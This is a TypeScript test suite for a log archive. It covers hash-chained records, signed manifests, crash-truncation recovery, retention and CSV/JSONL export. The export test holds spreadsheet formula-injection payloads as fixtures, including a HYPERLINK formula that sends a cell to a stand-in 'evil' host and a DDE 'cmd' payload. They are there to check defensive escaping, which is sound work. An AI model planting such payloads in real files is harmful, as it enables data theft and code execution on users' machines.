// The archive's record format and chain, on real files in a temp dir: lines parse back to what was
// written, the chain links days, a crash's cut tail is dropped on reopen, and verify sees it whole.

import t from 'tap'
import { appendFileSync, readFileSync, statSync, truncateSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { createPublicKey, createPrivateKey } from 'node:crypto'
import { gunzipSync, gzipSync } from 'node:zlib'
import { pino } from 'pino'
import { GENESIS, dayOf, encodeLine, parseLine, posAfter, sha256, type RecordBody } from '../../collector/archive/record.js'
import { ArchiveWriter, type NewRecord } from '../../collector/archive/writer.js'
import { newKeyPair } from '../../collector/archive/manifest.js'
import { verifyArchive } from '../../collector/archive/verify.js'
import { csvCell, exportLogs } from '../../collector/archive/export.js'
import { parseCsv } from '../helpers/archive.js'
import { tmpDir } from '../helpers/tmp.js'

const logger = pino({ level: 'silent' })
const keys = newKeyPair()
const key = createPrivateKey(keys.privatePem)
const pub = createPublicKey(keys.publicPem)

const ev = (i: number): NewRecord => ({ w: [1, i * 100, 0], k: 'log', r: 1_800_000_000_000 + i, t: 1_800_000_000_000 + i, host: 'web01', role: 'server', site: 'honcho', source: '/var/log/app.log', level: 'error', message: `事象 ${i}, "quoted"\nnext line` })

t.test('a line is "<sha256 of body> <body>" and parses back', async t => {
  const body: RecordBody = { n: 1, p: GENESIS, ...ev(1) }
  const { line, hash } = encodeLine(body)
  t.equal(hash, sha256(JSON.stringify(body)))
  t.ok(line.endsWith('\n'))
  const p = parseLine(line.slice(0, -1))
  if (typeof p === 'string') throw new Error(p)
  t.same(p.body, body)
  t.equal(p.hash, hash)
  t.type(parseLine('abc {}'), 'string', 'a line without a 64-digit hash is refused')
  t.type(parseLine(`${hash} {not json`), 'string')
})

t.test('WAL positions order by segment, offset, index; days follow the time zone', async t => {
  t.ok(posAfter([2, 0, 0], [1, 999, 9]))
  t.ok(posAfter([1, 5, 1], [1, 5, 0]))
  t.notOk(posAfter([1, 5, 0], [1, 5, 0]), 'the same position is not after itself (a duplicate)')
  t.equal(dayOf(Date.parse('2026-12-06T15:30:00Z'), 'Asia/Tokyo'), '2026-12-07')
  t.equal(dayOf(Date.parse('2026-12-06T14:59:59Z'), 'Asia/Tokyo'), '2026-12-06')
})

t.test('days chain through their manifests; a cut tail after a crash is dropped on reopen', async t => {
  const dir = await tmpDir(t)
  const o = { dir, key, keepMs: 400 * 86_400_000, minFree: 0, timeZone: 'Asia/Tokyo', logger }
  const w = new ArchiveWriter(o)
  await w.load()
  await w.append('2026-12-01', [ev(1), ev(2)])
  await w.append('2026-12-01', [ev(3)])
  await w.append('2026-12-02', [ev(4)])
  t.equal(w.day, '2026-12-02')
  const m1 = readFileSync(join(dir, '2026-12-01.manifest'), 'utf8').split('\n')
  const man = JSON.parse(m1[0]!)
  t.match(man, { day: '2026-12-01', records: 3, prevDay: null, prevHash: GENESIS, lastW: [1, 300, 0] })
  const day2 = gunzipSync(readFileSync(join(dir, '2026-12-02.log.gz'))).toString().split('\n')
  t.equal(JSON.parse(day2[0]!.slice(65)).p, man.lastHash, 'the next day\'s first record names the last hash of the day before')

  // A crash mid-append: half a gzip member at the end of the open day.
  const half = gzipSync(encodeLine({ n: 2, p: GENESIS, ...ev(5) }).line)
  appendFileSync(join(dir, '2026-12-02.log.gz'), half.subarray(0, half.length >> 1))
  t.match(verifyArchive(dir, pub).fault, { message: /truncated or corrupt after record 1/ }, 'verify sees the cut tail')
  const again = new ArchiveWriter(o)
  await again.load()
  t.same(again.lastW, [1, 400, 0], 'the last whole record\'s WAL position is taken back')
  t.equal(again.day, '2026-12-02')
  await again.append('2026-12-02', [ev(5)])
  await again.append('2026-12-03', [ev(6)])
  const r = verifyArchive(dir, pub)
  t.equal(r.fault, undefined, JSON.stringify(r.fault))
  t.match(r, { days: 3, records: 6, open: '2026-12-03' })

  // Another key did not sign these manifests.
  const other = createPublicKey(newKeyPair().publicPem)
  t.match(verifyArchive(dir, other).fault, { file: /2026-12-01\.manifest$/, message: /signature does not match/ })
  // verify of one day still checks its link to the day before.
  t.match(verifyArchive(dir, pub, '2026-12-02', '2026-12-02'), { days: 1, records: 2 })
})

t.test('retention deletes old days and keeps the chain checkable from pruned.manifest', async t => {
  const dir = await tmpDir(t)
  const w = new ArchiveWriter({ dir, key, keepMs: 2 * 86_400_000, minFree: 0, timeZone: 'Asia/Tokyo', logger })
  await w.load()
  for (const [i, d] of ['2026-12-01', '2026-12-02', '2026-12-03', '2026-12-04', '2026-12-05'].entries()) await w.append(d, [ev(i + 1)])
  const r = verifyArchive(dir, pub)
  t.equal(r.fault, undefined, JSON.stringify(r.fault))
  t.equal(r.days, 4, 'days before 2026-12-02 (keep: 2 days before 2026-12-04, the last closed) are gone')
  writeFileSync(join(dir, 'pruned.manifest'), readFileSync(join(dir, '2026-12-02.manifest')))
  t.match(verifyArchive(dir, pub).fault, { message: /does not follow|is missing/ }, 'a forged pruned marker breaks the link')
})

t.test('a full disk (minFree) refuses the append and leaves the state as it was', async t => {
  const dir = await tmpDir(t)
  const w = new ArchiveWriter({ dir, key, keepMs: 400 * 86_400_000, minFree: Number.MAX_SAFE_INTEGER, timeZone: 'Asia/Tokyo', logger })
  await w.load()
  await t.rejects(w.append('2026-12-01', [ev(1)]), /under archive.minFree/)
  t.equal(w.day, undefined)
  t.same(w.lastW, [-1, -1, -1])
})

t.test('the signed head witness shows a cut of the open day at a flush boundary', async t => {
  const dir = await tmpDir(t)
  const w = new ArchiveWriter({ dir, key, keepMs: 400 * 86_400_000, minFree: 0, timeZone: 'Asia/Tokyo', logger })
  await w.load()
  await w.append('2026-12-01', [ev(1), ev(2)])
  const file = join(dir, '2026-12-01.log.gz')
  const size = statSync(file).size
  await w.append('2026-12-01', [ev(3)])
  await w.writeHead(1000, 0)
  t.equal(verifyArchive(dir, pub).fault, undefined, 'intact with its head')
  truncateSync(file, size)
  t.match(verifyArchive(dir, pub).fault, { record: 3, message: /holds 2 records, the signed head witness 3/ }, 'the last flush cut off: still whole gzip, but shorter than the head says')
  writeFileSync(join(dir, 'head'), readFileSync(join(dir, 'head'), 'utf8').replace('"records":3', '"records":2'))
  t.match(verifyArchive(dir, pub).fault, { file: /head$/, message: /head witness's signature does not match/ }, 'the head cannot be edited to match')
})

t.test('logs export: log events only; a cell that a spreadsheet would run as a formula is text', async t => {
  const dir = await tmpDir(t)
  const w = new ArchiveWriter({ dir, key, keepMs: 400 * 86_400_000, minFree: 0, timeZone: 'Asia/Tokyo', logger })
  await w.load()
  // Log lines an attacker controls (an sshd user name, a kiosk's text) that Excel would take as formulas.
  const messages = ['=HYPERLINK("http://evil/?"&A1,"見る")', '+81 3 1234', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1+1)', '\t=1+1', '\r=1+1', '普通の行 = ok', 'a-b']
  const logs = messages.map((message, i) => ({ ...ev(i), host: `h${i}`, message }))
  await w.append('2026-12-01', [
    ...logs.slice(0, 4),
    { w: [1, 9000, 0], k: 'alert', r: 1_800_000_000_000, t: 1_800_000_000_000, host: 'h1', role: 'server', site: 'honcho', source: 'alert/cpu_high', level: 'error', message: 'firing: =1+1' },
    { w: [1, 9000, 0], k: 'audit', a: 7, r: 1_800_000_000_001, t: 1_800_000_000_001, host: '', role: '', site: '', source: 'audit/admin', level: 'info', message: 'token.create {}' },
    ...logs.slice(4)
  ])
  for (const format of ['csv', 'jsonl'] as const) {
    const out = join(dir, `out.${format}`)
    const r = await exportLogs({ dir, from: '2026-12-01', to: '2026-12-01', format, out })
    t.equal(r.events, logs.length, `${format}: the alert and audit records are not counted as exported`)
    const text = readFileSync(out, 'utf8')
    if (format === 'jsonl') {
      t.same(text.split('\n').slice(0, -1).map(l => JSON.parse(l).message), messages, 'jsonl: the messages unchanged, no alert or audit row')
      continue
    }
    const rows = parseCsv(text.slice(1)).slice(1)
    t.same(rows.map(r => r[1]), logs.map(l => l.host), 'csv: one row per log event, none for the alert and audit records')
    const danger = /^[=+\-@\t\r]/
    t.same(rows.map(r => r[6]), messages.map(m => danger.test(m) ? `'${m}` : m), "csv: = + - @ tab CR at the start get a leading '")
    t.ok(rows.every(r => r.every(c => !danger.test(c))), 'no cell starts with a formula character')
  }
  t.equal(csvCell('-1'), "'-1")
  t.equal(csvCell('=a,b'), `"'=a,b"`, 'the quote goes inside the RFC 4180 quoting')
  t.equal(csvCell('2026-12-01T00:00:00.000Z'), '2026-12-01T00:00:00.000Z')
})
